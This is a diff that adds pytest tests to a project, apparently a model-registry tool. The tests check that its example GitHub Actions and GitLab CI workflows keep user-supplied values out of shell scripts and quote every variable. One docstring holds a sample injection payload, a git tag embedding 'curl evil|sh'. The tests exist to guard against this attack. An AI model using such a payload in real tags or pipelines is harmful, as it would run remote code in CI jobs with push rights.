@@ -135,3 +135,39 @@ def test_pre_commit_hooks_file_declares_modelreg_check() -> None:
     assert re.search(hook["files"], "models/team/fraud/model.yaml")
     assert re.search(hook["files"], ".modelreg.yaml")
     assert not re.search(hook["files"], "src/train.py")
+
+
+def _run_scripts(node: object) -> list[str]:
+    """Every `run:` script in a GitHub Actions workflow."""
+    if isinstance(node, dict):
+        found = [node["run"]] if isinstance(node.get("run"), str) else []
+        return found + [s for value in node.values() for s in _run_scripts(value)]
+    if isinstance(node, list):
+        return [s for value in node for s in _run_scripts(value)]
+    return []
+
+
+def test_github_recipe_keeps_pushed_and_typed_values_out_of_scripts() -> None:
+    """A tag named `m@v1.0.0$(curl evil|sh)` is a legal git tag: pasted into `run:` as
+    ${{ github.ref_name }} it would run in a job that can push. Such values reach the
+    shell only through `env:` and quoted variables."""
+    workflow = yaml.safe_load((ROOT / "examples" / "ci" / "github-actions.yml").read_text())
+    scripts = _run_scripts(workflow)
+    assert len(scripts) >= 6, scripts
+    for script in scripts:
+        assert "${{" not in script, script
+        # Every variable a script expands is double-quoted (no word splitting or globbing).
+        for line in script.splitlines():
+            unquoted = re.sub(r'"[^"]*"', "", line)
+            assert "$" not in unquoted, line
+
+
+def test_gitlab_recipe_quotes_every_pushed_or_typed_value() -> None:
+    config = yaml.safe_load((ROOT / "examples" / "ci" / "gitlab-ci.yml").read_text())
+    lines = [
+        line for job in config.values() if isinstance(job, dict) for line in job.get("script", [])
+    ]
+    assert any("$CI_COMMIT_TAG" in line for line in lines)
+    for line in lines:
+        unquoted = re.sub(r'"[^"]*"', "", line)
+        assert "$" not in unquoted, line
